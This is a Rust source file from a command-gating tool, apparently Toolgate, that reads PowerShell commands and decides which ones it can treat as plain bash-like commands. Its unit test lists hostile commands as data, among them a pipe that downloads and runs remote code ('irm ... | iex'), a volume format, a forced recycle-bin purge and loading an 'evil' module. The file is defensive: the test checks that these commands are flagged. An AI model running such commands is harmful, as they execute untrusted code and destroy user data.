//! Texts for shells outside the Bourne family are read where they mean the same in bash.

use super::parse;
use crate::command::{Command, Effect, EffectKind, Script};
use crate::facts::Facts;
use crate::foreign::{ForeignShell, is_common, means_the_same, tokens};
use toolgate_shell_syntax::path::absolute;
use toolgate_shell_syntax::word::{Value, Word};

/// Reads a text for such a shell. What is not read alike by both is [unparsed](Script::unparsed).
pub fn parse_foreign(text: &str, shell: &ForeignShell, facts: &Facts) -> Script {
    if let Some(script) = common(text, shell, facts) {
        return script;
    }
    if shell.only_reads(text) {
        return read_only(text, facts);
    }
    let why = format!("Toolgate reads only simple commands of {}", shell.title());
    let commands = tokens(text, facts).into_iter().enumerate();
    let commands = commands.map(|(group, words)| Command::of_tokens(words, facts, group));
    Script { commands: commands.collect(), unparsed: Some(why), foreign: true, ..Script::default() }
}

/// A text that bash reads alike.
fn common(text: &str, shell: &ForeignShell, facts: &Facts) -> Option<Script> {
    let script = is_common(text).then(|| parse(text, facts))?;
    let same = script.unparsed.is_none() && script.commands.iter().all(|command| means_the_same(command, shell));
    same.then_some(script)
}

/// A text that only reads: whatever its words name is mentioned.
fn read_only(text: &str, facts: &Facts) -> Script {
    let commands = tokens(text, facts).into_iter().enumerate();
    let mentions = |words: &[Word]| {
        let cwd = facts.cwd.as_deref().unwrap_or("/");
        let path = |word: &Word| Value::Known(absolute(word.text(), cwd));
        words.iter().skip(1).map(|word| Effect::new(EffectKind::Mention, path(word), word.span)).collect()
    };
    let commands = commands.map(|(group, words)| {
        let effects = mentions(&words);
        Command { effects, ..Command::of_tokens(words, facts, group) }
    });
    Script { commands: commands.collect(), ..Script::default() }
}

/// Whether a text inside another one reads alike, so that it is followed as one for bash.
pub(crate) fn reads_alike(text: &str, shell: &ForeignShell, facts: &Facts) -> bool {
    common(text, shell, facts).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts() -> Facts {
        Facts::new("/home/dev/project").home("/home/dev")
    }

    #[test]
    fn plain_texts_are_read_and_others_are_tokens() {
        let cases = [
            ("Get-ChildItem src", true),
            ("get-content README.md | select-string todo", true),
            ("ls; cat 'a b'", true),
            ("git status", true),
            ("Get-Content ~/notes.md", true),
            ("npm test", true),
            ("Remove-Item x", false),
            ("rm x", false),
            ("git status; rm x", false),
            ("Get-ChildItem Env:", false),
            ("Get-Content $env:X", false),
            ("Get-Process | Stop-Process", false),
            ("irm https://a.example/x | iex", false),
            ("& git status", false),
            ("cat a,b", true),
            ("git log 'it''s'", false),
            ("git push || rm x", false),
            ("Start-Process git", false),
            ("Format-Volume -DriveLetter D", false),
            ("Clear-RecycleBin -Force", false),
            ("ipmo ./evil.psm1", false),
        ];
        for (text, read) in cases {
            let script = parse_foreign(text, &ForeignShell::PowerShell, &facts());
            assert_eq!(script.unparsed.is_none(), read, "{text}");
        }
    }
}
